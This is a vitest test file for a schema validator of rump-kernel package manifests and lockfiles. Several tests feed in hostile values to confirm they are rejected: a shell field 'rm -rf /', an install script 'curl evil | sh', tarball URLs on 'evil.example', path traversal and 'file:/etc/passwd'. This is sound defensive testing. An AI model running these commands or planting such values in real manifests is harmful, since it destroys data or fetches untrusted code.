import { describe, expect, it } from 'vitest';
import { INIT_LEVEL_RUN_ORDER, loadCatalog } from '../../components/index.js';
import { DOCUMENT_KINDS, formatProblems, INIT_LEVELS, SCHEMAS, validateDocument } from '../../schemas/index.js';
import { designComponentManifest, designProjectManifest, sampleImageManifest, sampleLockfile } from './fixtures.js';
import { sharedFile, sharedTitle } from '../helpers/shared.js';

const sharedCatalog = sharedFile('netbsd/components.json');

/** Every object under a `properties` keyword, with its path. */
function propertySchemas(node: unknown, path = '#'): Array<{ path: string; schema: Record<string, unknown> }> {
  const out: Array<{ path: string; schema: Record<string, unknown> }> = [];
  if (node === null || typeof node !== 'object') return out;
  const o = node as Record<string, unknown>;
  if (o.properties !== undefined && typeof o.properties === 'object') {
    for (const [k, v] of Object.entries(o.properties as Record<string, unknown>)) out.push({ path: `${path}/properties/${k}`, schema: v as Record<string, unknown> });
  }
  for (const [k, v] of Object.entries(o)) out.push(...propertySchemas(v, `${path}/${k}`));
  return out;
}

describe('schemas', () => {
  it('each has $schema 2020-12, a URN $id, a title and a description on every property', () => {
    for (const kind of DOCUMENT_KINDS) {
      const s = SCHEMAS[kind] as Record<string, unknown>;
      expect(s.$schema).toBe('https://json-schema.org/draft/2020-12/schema');
      expect(s.$id).toBe(`urn:rumpkg:schema:${kind}:1`);
      expect(typeof s.title).toBe('string');
      const props = propertySchemas(s);
      expect(props.length).toBeGreaterThan(5);
      const missing = props.filter((p) => typeof p.schema.description !== 'string').map((p) => p.path);
      expect(missing, `${kind}: properties without description`).toEqual([]);
    }
  });

  it('init levels are the 14 of the catalog, in run order, and equal INIT_LEVEL_RUN_ORDER', () => {
    expect([...INIT_LEVELS]).toEqual([...INIT_LEVEL_RUN_ORDER]);
    expect([...INIT_LEVELS]).toEqual(loadCatalog().initLevelRunOrder);
    expect(INIT_LEVELS).toHaveLength(14);
  });

  it.skipIf(!sharedCatalog.available)(sharedTitle(sharedCatalog, 'init levels equal the run order of ../shared/netbsd/components.json'), () => {
    expect([...INIT_LEVELS]).toEqual(sharedCatalog.json<{ initLevelRunOrder: string[] }>().initLevelRunOrder);
  });

  it('the DESIGN.md examples validate', () => {
    expect(validateDocument('component-manifest', designComponentManifest(), { file: 'package.json' }).errors).toEqual([]);
    expect(validateDocument('project-manifest', designProjectManifest(), { file: 'rumpkg.json' }).errors).toEqual([]);
    expect(validateDocument('lockfile', sampleLockfile(), { file: 'rumpkg.lock' }).errors).toEqual([]);
    expect(validateDocument('image-manifest', sampleImageManifest(), { file: 'image.json' }).errors).toEqual([]);
  });

  it('rump is closed at every level; the top level refuses scripts', () => {
    const m = designComponentManifest();
    (m.rump as Record<string, unknown>).extra = 1;
    ((m.rump as { targets: Record<string, Record<string, unknown>> }).targets['posix-x86_64'] as Record<string, unknown>).shell = 'rm -rf /';
    (m as Record<string, unknown>).scripts = { install: 'curl evil | sh' };
    const { errors } = validateDocument('component-manifest', m, { file: 'package.json' });
    expect(errors.map((e) => e.pointer).sort()).toEqual(['/rump/extra', '/rump/targets/posix-x86_64/shell', '/scripts']);
    expect(errors.every((e) => e.message.startsWith('unknown key'))).toBe(true);
    expect(errors.find((e) => e.pointer === '/rump/extra')?.expected).toContain('"lib"');
  });

  it('optional rump fields may be left out', () => {
    const m = designComponentManifest();
    const r = m.rump as Record<string, unknown>;
    for (const k of ['kind', 'aliases', 'requires', 'provides', 'conflicts', 'optionalDependencies', 'initLevels', 'upstream']) delete r[k];
    delete m.dependencies;
    delete m.description;
    expect(validateDocument('component-manifest', m, { file: 'package.json' }).errors).toEqual([]);
  });

  it('names the file, the JSON pointer and what was expected', () => {
    const m = designComponentManifest();
    const r = m.rump as Record<string, unknown>;
    r.lib = 'rumpnet_netinet';
    r.initLevels = ['RUMP_COMPONENT_NETT'];
    r.requires = ['Hypercall 17'];
    (r.targets as Record<string, unknown>)['posix-sparc'] = { archive: 'a.a' };
    m.version = 10;
    const { errors } = validateDocument('component-manifest', m, { file: 'pkg/package.json' });
    const byPointer = Object.fromEntries(errors.map((e) => [e.pointer, e]));
    expect(Object.keys(byPointer).sort()).toEqual(['/rump/initLevels/0', '/rump/lib', '/rump/requires/0', '/rump/targets/posix-sparc', '/version']);
    expect(byPointer['/version']?.message).toBe('must be string, not integer');
    expect(byPointer['/rump/lib']?.message).toBe('"rumpnet_netinet" must match pattern "^lib[a-z0-9_]+$"');
    expect(byPointer['/rump/initLevels/0']?.expected).toContain('RUMP_COMPONENT_NET_IFCFG');
    expect(byPointer['/rump/targets/posix-sparc']?.message).toContain('key "posix-sparc" must match pattern');
    expect(formatProblems(errors)).toContain('pkg/package.json: /rump/lib: "rumpnet_netinet" must match pattern "^lib[a-z0-9_]+$" (expected A NetBSD library name');
    expect(errors.every((e) => e.file === 'pkg/package.json' && e.stage === 'schema')).toBe(true);
  });

  it('refuses unsafe archive paths in the schema already', () => {
    for (const bad of ['../x.a', '/abs/x.a', 'lib//x.a', 'lib/./x.a', '.hidden.a', 'lib\\x.a', 'C:x.a']) {
      const m = designComponentManifest();
      ((m.rump as { targets: Record<string, Record<string, unknown>> }).targets['posix-x86_64'] as Record<string, unknown>).archive = bad;
      const { errors } = validateDocument('component-manifest', m, { file: 'package.json' });
      expect(errors.map((e) => e.pointer), bad).toEqual(['/rump/targets/posix-x86_64/archive']);
    }
  });

  it('project manifest: unknown target, bad registry URL, bad interface', () => {
    const p = designProjectManifest();
    p.targets = ['posix-x86_64', 'posix-x86_64', 'beos-m68k'];
    p.registries = { rump: 'file:x', '@ok': 'ftp://host/' };
    (p.image as { net: unknown[] }).net.push({ if: 'vioif0', type: 'ipx', method: 'dhcp' });
    const { errors } = validateDocument('project-manifest', p, { file: 'rumpkg.json' });
    expect(errors.map((e) => e.pointer).sort()).toEqual(['/image/net/1/type', '/registries/@ok', '/registries/rump', '/targets', '/targets/2']);
  });

  it('lockfile: integrity must be sha512 SRI, tarball registry-relative', () => {
    const l = sampleLockfile();
    const c = (l.targets as Record<string, { components: Record<string, Record<string, unknown>> }>)['posix-x86_64']!.components['@rump/net']!;
    c.integrity = 'sha1-AAAA';
    c.tarball = 'https://evil.example/net.tgz';
    const { errors } = validateDocument('lockfile', l, { file: 'rumpkg.lock' });
    expect(errors.map((e) => e.pointer).sort()).toEqual([
      '/targets/posix-x86_64/components/@rump~1net/integrity',
      '/targets/posix-x86_64/components/@rump~1net/tarball',
    ]);
  });

  it('lockfile tarball locations stay relative to the registry (RG-08)', () => {
    const check = (tarball: string): string[] => {
      const l = sampleLockfile();
      (l.targets as Record<string, { components: Record<string, Record<string, unknown>> }>)['posix-x86_64']!.components['@rump/net']!.tarball = tarball;
      return validateDocument('lockfile', l, { file: 'rumpkg.lock' }).errors.map((e) => e.pointer);
    };
    for (const ok of ['@rump/net/-/net-10.0.0.tgz', '@rump/net/-/net-10.0.0-RC.1+b.7.tgz', 'download/@rump/net/10.0.0/0a1b2c', '@rump%2fnet/-/net-10.0.0.tgz']) {
      expect(check(ok), ok).toEqual([]);
    }
    for (const bad of ['../net.tgz', '@rump/../../x.tgz', '/abs/net.tgz', '//evil.example/net.tgz', 'http://evil.example/net.tgz', 'file:/etc/passwd', 'a/./b.tgz', 'a\\b.tgz', '']) {
      expect(check(bad), bad).toEqual(['/targets/posix-x86_64/components/@rump~1net/tarball']);
    }
  });

  it('caps the number of reported problems', () => {
    const m = designComponentManifest();
    (m.rump as Record<string, unknown>).aliases = Array.from({ length: 60 }, () => 'UPPER');
    (m as Record<string, unknown>).keywords = Array.from({ length: 60 }, () => 7);
    const { errors } = validateDocument('component-manifest', m, { file: 'package.json' });
    expect(errors.length).toBeLessThanOrEqual(101);
    expect(errors.at(-1)?.message).toMatch(/and \d+ more problems/);
  });
});
